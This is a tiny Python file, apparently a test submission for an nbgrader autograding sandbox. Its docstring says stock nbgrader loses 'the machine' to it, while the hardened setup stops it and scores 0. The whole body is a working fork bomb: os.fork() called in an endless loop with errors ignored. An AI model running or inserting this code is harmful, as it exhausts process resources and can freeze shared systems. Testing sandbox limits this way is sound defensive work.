"""Fork without end.

Stock nbgrader: the machine. Here: stopped, 0.
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
